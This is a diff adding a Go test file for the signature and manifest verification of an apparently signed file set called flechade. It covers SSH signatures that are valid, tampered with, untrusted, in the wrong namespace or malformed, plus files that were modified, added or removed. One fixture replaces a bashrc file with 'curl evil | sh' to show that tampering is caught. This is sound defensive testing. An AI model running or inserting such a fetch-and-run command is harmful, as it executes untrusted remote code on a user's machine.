@@ -0,0 +1,124 @@
+package run
+
+import (
+	"io/fs"
+	"os"
+	"strings"
+	"testing"
+)
+
+// The fixtures in testdata were made with
+//
+//	ssh-keygen -Y sign -f signer -n flechade flechade.sums
+//
+// wrong-namespace.sig with -n file and untrusted.sig with another key.
+
+// signedSet loads testdata/signed into memory, so tests can change files
+func signedSet(t *testing.T) memFS {
+	files := memFS{}
+	err := fs.WalkDir(os.DirFS("testdata/signed"), ".", func(name string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		data, err := os.ReadFile("testdata/signed/" + name)
+		files[name] = &memFile{Data: data, Mode: 0644}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return files
+}
+
+func TestVerifySSHSig(t *testing.T) {
+	trusted, err := loadTrustStore("testdata/allowed_signers")
+	if err != nil {
+		t.Fatal(err)
+	}
+	manifest, err := os.ReadFile("testdata/signed/flechade.sums")
+	if err != nil {
+		t.Fatal(err)
+	}
+	read := func(file string) []byte {
+		data, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return data
+	}
+	good := read("testdata/signed/flechade.sums.sig")
+	tests := []struct {
+		name     string
+		manifest []byte
+		sig      []byte
+		err      string
+	}{
+		{"valid", manifest, good, ""},
+		{"tampered manifest", append([]byte("0000  extra\n"), manifest...), good, "invalid set signature"},
+		{"untrusted key", manifest, read("testdata/untrusted.sig"), "untrusted key"},
+		{"wrong namespace", manifest, read("testdata/wrong-namespace.sig"), "not made for flechade"},
+		{"not armored", manifest, []byte("garbage"), "invalid signature format"},
+	}
+	for _, tt := range tests {
+		err := verifySSHSig(tt.manifest, tt.sig, trusted)
+		if tt.err == "" {
+			if err != nil {
+				t.Errorf("%s: %v", tt.name, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.err) {
+			t.Errorf("%s: got %v, want an error containing %q", tt.name, err, tt.err)
+		}
+	}
+}
+
+func TestCheckManifest(t *testing.T) {
+	tests := []struct {
+		name   string
+		change func(memFS)
+		err    string
+	}{
+		{"unchanged", func(memFS) {}, ""},
+		{"tampered file", func(f memFS) { f["bashrc"].Data = []byte("curl evil | sh\n") }, "file modified after signing: bashrc"},
+		{"extra file", func(f memFS) { f["extra.sh"] = &memFile{Data: []byte("x"), Mode: 0644} }, "file not listed in signed manifest: extra.sh"},
+		{"missing file", func(f memFS) { delete(f, "bashrc") }, "file missing from set: bashrc"},
+	}
+	for _, tt := range tests {
+		files := signedSet(t)
+		tt.change(files)
+		err := checkManifest(files, files["flechade.sums"].Data)
+		if tt.err == "" {
+			if err != nil {
+				t.Errorf("%s: %v", tt.name, err)
+			}
+			continue
+		}
+		if err == nil || err.Error() != tt.err {
+			t.Errorf("%s: got %v, want %q", tt.name, err, tt.err)
+		}
+	}
+}
+
+func TestVerifySignature(t *testing.T) {
+	saved := TrustStore
+	TrustStore = "testdata/allowed_signers"
+	t.Cleanup(func() { TrustStore = saved })
+
+	s := &Set{files: signedSet(t)}
+	if err := s.verifySignature(); err != nil {
+		t.Errorf("signed set: %v", err)
+	}
+	tampered := signedSet(t)
+	tampered["flechade.yaml"].Data = []byte("name: changed\n")
+	s = &Set{files: tampered}
+	if err := s.verifySignature(); err == nil {
+		t.Error("a set changed after signing was accepted")
+	}
+	resigned := signedSet(t)
+	resigned["flechade.sums.sig"].Data, _ = os.ReadFile("testdata/untrusted.sig")
+	s = &Set{files: resigned}
+	if err := s.verifySignature(); err == nil {
+		t.Error("a set signed by an untrusted key was accepted")
+	}
+}